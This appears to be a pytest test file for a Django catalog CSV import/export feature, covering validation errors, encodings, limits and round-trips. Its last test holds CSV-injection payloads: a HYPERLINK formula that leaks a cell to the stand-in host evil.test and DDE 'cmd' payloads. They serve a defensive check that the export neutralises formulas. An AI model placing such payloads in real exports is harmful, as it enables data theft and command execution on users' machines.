import csv
import io

import pytest
from django.urls import reverse
from django_tenants.utils import tenant_context

from accounts.models import AuditEntry, Role
from catalog import csv_io
from catalog.models import Category, Product, ProductVariant

from . import factories as f

HEADER = "category,name,sku,price,barcode,taxes,variant,variant_sku,variant_price\n"


def run(text: str | bytes, currency: str = "IDR") -> csv_io.ImportResult:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return csv_io.catalog_import(data=data, currency_code=currency)


def test_import_creates_and_updates_by_sku(in_tenant):
    f.tax("PB1")
    existing = f.product(category_=f.category("Coffee"), name="Espresso", sku="ESP", price_minor=20000)
    result = run(
        HEADER
        + "Coffee,Espresso double,esp,22.000,,PB1,,,\n"
        + "Coffee,Caffè latte,LAT,35.000,899111,PB1,Regular,LAT-R,35.000\n"
        + "Coffee,Caffè latte,LAT,35.000,899111,PB1,Large,LAT-L,42.000\n"
        + "Pastry,Croissant,CRO,25000,,,,,\n"
    )
    assert (result.products_created, result.products_updated, result.variants_created) == (2, 1, 2)
    assert result.categories_created == 1
    existing.refresh_from_db()
    assert (existing.name, existing.price_minor) == ("Espresso double", 22000)
    latte = Product.objects.get(sku="LAT")
    assert (latte.name, latte.price_minor, latte.barcode, latte.category.name) == (
        "Caffè latte",
        35000,
        "899111",
        "Coffee",
    )
    assert list(latte.taxes.values_list("code", flat=True)) == ["PB1"]
    assert list(latte.variants.order_by("price_minor").values_list("sku", "price_minor")) == [
        ("LAT-R", 35000),
        ("LAT-L", 42000),
    ]
    entry = AuditEntry.objects.filter(action="catalog.price_change").latest("pk")
    assert (entry.target_label, entry.data["from"], entry.data["to"]) == ("ESP", 20000, 22000)
    # Importing again updates the variant's price and is audited too.
    run(HEADER + "Coffee,Caffè latte,LAT,35.000,899111,,Large,LAT-L,45.000\n")
    assert ProductVariant.objects.get(sku="LAT-L").price_minor == 45000
    assert AuditEntry.objects.filter(action="catalog.price_change", target_label="LAT-L").exists()
    assert not latte.taxes.exists()  # the file's (empty) tax column replaced the set


def test_three_bad_rows_are_all_reported_with_line_numbers_and_nothing_is_saved(in_tenant):
    f.tax("PB1")
    categories_before = Category.objects.count()
    text = (
        HEADER
        + "Coffee,Espresso,ESP,22.000,,PB1,,,\n"  # line 2: fine
        + "Coffee,,NONAME,10.000,,,,,\n"  # line 3: no name
        + 'Tea,Teh,TEH,"12,5",,,,,\n'  # line 4: IDR has no decimals
        + "Tea,Matcha,MAT,36.000,,XYZ,,,\n"  # line 5: unknown tax
        + "Tea,Teh tarik,TT,20.000,,PB1,,,\n"  # line 6: fine
    )
    with pytest.raises(csv_io.CsvImportError) as exc:
        run(text)
    assert [line for line, _ in exc.value.errors] == [3, 4, 5]
    messages = dict(exc.value.errors)
    assert messages[3] == "The name is empty."
    assert "IDR amounts have no decimals" in messages[4]
    assert messages[5] == "Unknown tax code(s): XYZ."
    assert not Product.objects.filter(sku__in=["ESP", "TT", "NONAME", "TEH", "MAT"]).exists()
    assert Category.objects.count() == categories_before


def test_duplicates_and_clashes_with_existing_variants_are_reported(in_tenant):
    latte = f.product(sku="LAT")
    f.variant(product_=latte, sku="LAT-L")
    text = (
        HEADER
        + "Coffee,Espresso,ESP,22.000,,,,,\n"
        + "Coffee,Espresso,ESP,22.000,,,,,\n"  # 3: same SKU twice, no variant
        + "Coffee,Latte L,LAT-L,1,,,,,\n"  # 4: a variant's SKU used as a product SKU
        + "Coffee,Mocha,MOC,1,,,Big,MOC-B,\n"  # 5: variant without price
        + "Coffee,Mocha,MOC,2,,,Small,MOC-S,1\n"  # 6: different product price than line 5's... line 5 is bad
    )
    with pytest.raises(csv_io.CsvImportError) as exc:
        run(text)
    lines = [line for line, _ in exc.value.errors]
    assert lines == [3, 4, 5, 6]
    assert "already on line 2" in dict(exc.value.errors)[3]


def test_bom_semicolons_and_excel_style_quoting(in_tenant):
    text = (
        "\ufeffCategory;Name;SKU;Price;Description\r\n"
        'Coffee;"Kopi ""special""; susu";KS;28.000;"two\r\nlines"\r\n'
        "Coffee;Es teh;ET;10.000;\r\n"
    )
    result = run(text.encode("utf-8"))
    assert result.products_created == 2
    assert Product.objects.get(sku="KS").name == 'Kopi "special"; susu'
    assert Product.objects.get(sku="KS").description == "two\r\nlines"
    assert Category.objects.filter(name="Coffee").count() == 1


def test_windows_1252_file_from_old_excel(in_tenant):
    result = run("category,name,sku,price\nCoffee,Caffè,CAF,20000\n".encode("cp1252"))
    assert result.products_created == 1
    assert Product.objects.get(sku="CAF").name == "Caffè"


def test_usd_prices_and_header_problems(in_tenant):
    run("category,name,sku,price\nDrinks,Soda,SODA,4.50\n", currency="USD")
    assert Product.objects.get(sku="SODA").price_minor == 450
    with pytest.raises(csv_io.CsvImportError) as exc:
        run("category,title,sku\nx,y,z\n")
    assert [line for line, _ in exc.value.errors] == [1, 1]
    with pytest.raises(csv_io.CsvImportError) as exc:
        run("")
    assert exc.value.errors == [(0, "The file is empty.")]


def test_size_and_row_limits(in_tenant, monkeypatch):
    with pytest.raises(csv_io.CsvImportError) as exc:
        run(b"x" * (csv_io.MAX_BYTES + 1))
    assert "larger than 5 MB" in exc.value.errors[0][1]
    monkeypatch.setattr(csv_io, "MAX_ROWS", 3)
    rows = "".join(f"Coffee,P{i},P{i},1\n" for i in range(4))
    with pytest.raises(csv_io.CsvImportError) as exc:
        run("category,name,sku,price\n" + rows)
    assert exc.value.errors == [(5, "The file has more than 3 rows. Split it into parts.")]


def test_export_then_import_round_trips(in_tenant):
    pb1 = f.tax("PB1")
    latte = f.product(category_=f.category("Coffee"), name="Caffè, latte", sku="LAT", price_minor=35000, taxes=[pb1])
    f.variant(product_=latte, name="Large", sku="LAT-L", price_minor=42000)
    f.product(category_=latte.category, name="Espresso", sku="ESP", price_minor=22000)
    exported = "".join(csv_io.catalog_export_lines(currency_code="IDR")).encode("utf-8")
    result = run(exported)
    assert (result.products_created, result.products_updated, result.variants_updated) == (0, 0, 0)
    assert result.products_unchanged == 2  # nothing written when nothing changed
    latte.refresh_from_db()
    assert (latte.name, latte.price_minor) == ("Caffè, latte", 35000)


def test_import_page_lists_errors_and_saves_nothing(tenant):
    client = tenant.client(Role.ADMIN_TENANT)
    from django.core.files.uploadedfile import SimpleUploadedFile

    bad = SimpleUploadedFile("menu.csv", (HEADER + "Coffee,,A,1,,,,,\nCoffee,B,B,x,,,,,\n").encode(), "text/csv")
    response = client.post(reverse("catalog:catalog_import"), {"file": bad})
    assert response.status_code == 400
    html = response.content.decode()
    assert "Nothing was imported" in html and "<td>2</td>" in html and "<td>3</td>" in html
    good = SimpleUploadedFile("menu.csv", (HEADER + "Coffee,Bagel,BAG,15.000,,,,,\n").encode(), "text/csv")
    response = client.post(reverse("catalog:catalog_import"), {"file": good})
    assert response.status_code == 200 and "1 products added" in response.content.decode()
    with tenant_context(tenant.tenant):
        assert Product.objects.get(sku="BAG").price_minor == 15000
        assert not Product.objects.filter(sku__in=["A", "B"]).exists()


def test_a_refused_file_is_a_service_error_with_every_line_on_the_file_input(in_tenant):
    from pos_project.errors import error_body

    with pytest.raises(csv_io.CsvImportError) as exc:
        run(HEADER + "Coffee,,A,1,,,,,\nCoffee,B,B,x,,,,,\n")
    body = error_body(exc.value)["error"]
    assert body["code"] == "catalog.import_invalid"
    assert body["fields"]["file"][0] == "Line 2: The name is empty."
    assert body["fields"]["file"][1].startswith("Line 3: The price “x” is not a price")
    assert exc.value.summary == "The file has 2 problems; nothing was imported."


FORMULAS = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def test_the_export_neutralises_cells_a_spreadsheet_would_run_and_the_import_reads_them_back(in_tenant):
    """Issue 12, finding 6: names starting with =, +, - or @ came out unchanged (CSV injection)."""
    category = f.category("=cmd|'/C calc'!A0")
    for n, name in enumerate(FORMULAS):
        f.product(category_=category, name=name, sku=f"F{n}", price_minor=10000 + n)
    f.product(category_=category, name="'=already quoted", sku="FQ", price_minor=5000)
    exported = "".join(csv_io.catalog_export_lines(currency_code="IDR"))
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
    names = {row[2]: row[1] for row in rows[1:]}
    assert names["F0"] == "'" + FORMULAS[0] and names["F3"] == "'@SUM(A1:A9)"
    assert names["FQ"] == "''=already quoted"  # so that reading it back gives the name exactly
    assert {row[0] for row in rows[1:]} == {"'=cmd|'/C calc'!A0"}

    result = run(exported.encode("utf-8"))  # the import takes back what the export wrote, unchanged
    assert result.products_unchanged == len(FORMULAS) + 1 and result.products_updated == 0
    assert result.categories_created == 0
    assert Product.objects.get(sku="F1").name == FORMULAS[1]
    assert Product.objects.get(sku="FQ").name == "'=already quoted"
